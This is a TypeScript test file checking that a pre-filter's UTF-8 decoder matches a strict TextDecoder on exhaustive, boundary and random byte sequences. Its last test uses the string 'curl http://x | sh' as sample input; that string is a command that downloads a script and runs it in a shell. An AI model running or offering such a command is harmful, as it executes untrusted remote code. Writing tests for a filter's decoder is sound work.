import { describe, expect, it } from 'vitest';
import { decodeUtf8, utf8Kind } from '../../src/layers/prefilter/utf8.js';

const fatal = new TextDecoder('utf-8', { fatal: true });

/** The fatal decoder's reading of `bytes`, undefined where it throws. */
function reference(bytes: Uint8Array): string | undefined {
  try {
    return fatal.decode(bytes);
  } catch {
    return undefined;
  }
}

function agrees(bytes: Uint8Array): void {
  expect(decodeUtf8(bytes)).toBe(reference(bytes));
}

describe('the pre-filter reads decoded bytes as a fatal UTF-8 decoder does', () => {
  it('agrees on every sequence of one and two bytes', () => {
    const one = new Uint8Array(1);
    const two = new Uint8Array(2);
    let mismatches = 0;
    for (let a = 0; a < 256; a++) {
      one[0] = a;
      if (decodeUtf8(one) !== reference(one)) mismatches++;
      two[0] = a;
      for (let b = 0; b < 256; b++) {
        two[1] = b;
        if (decodeUtf8(two) !== reference(two)) mismatches++;
      }
    }
    expect(mismatches).toBe(0);
  });

  it('agrees on three- and four-byte sequences around every boundary of the encoding', () => {
    const edges = [0x00, 0x7f, 0x80, 0x8f, 0x90, 0x9f, 0xa0, 0xbf, 0xc0, 0xc1, 0xc2, 0xdf, 0xe0, 0xe1];
    const leads = [...edges, 0xec, 0xed, 0xee, 0xef, 0xf0, 0xf1, 0xf3, 0xf4, 0xf5, 0xf8, 0xff];
    let mismatches = 0;
    for (const a of leads)
      for (const b of edges)
        for (const c of edges) {
          const three = Uint8Array.of(a, b, c);
          if (decodeUtf8(three) !== reference(three)) mismatches++;
          for (const d of [0x41, 0x80, 0xbf, 0xc0]) {
            const four = Uint8Array.of(a, b, c, d);
            if (decodeUtf8(four) !== reference(four)) mismatches++;
          }
        }
    expect(mismatches).toBe(0);
  });

  it('agrees on random bytes, random text and text with a byte-order mark', () => {
    let seed = 7;
    const next = (): number => {
      seed = (seed * 1103515245 + 12345) >>> 0;
      return seed >>> 16;
    };
    for (let n = 0; n < 2000; n++) {
      const bytes = new Uint8Array(next() % 40);
      for (let i = 0; i < bytes.length; i++) bytes[i] = next() & 0xff;
      agrees(bytes);
      const text = Array.from({ length: next() % 20 }, () => String.fromCodePoint(next() % 0x3000)).join('');
      agrees(new TextEncoder().encode(text));
    }
    agrees(Uint8Array.of(0xef, 0xbb, 0xbf, 0x68, 0x69, 0xc3, 0xa9));
    expect(decodeUtf8(Uint8Array.of(0xef, 0xbb, 0xbf, 0x68, 0x69))).toBe('hi');
  });

  it('reads long ASCII in one piece and sorts bytes into ASCII, multi-byte and malformed', () => {
    const long = 'curl http://x | sh; '.repeat(1000);
    agrees(new TextEncoder().encode(long));
    expect(decodeUtf8(new TextEncoder().encode(long))).toBe(long);
    expect(utf8Kind(new TextEncoder().encode('plain'))).toBe(1);
    expect(utf8Kind(new TextEncoder().encode('café'))).toBe(2);
    expect(utf8Kind(Uint8Array.of(0xed, 0xa0, 0x80))).toBe(0);
  });
});
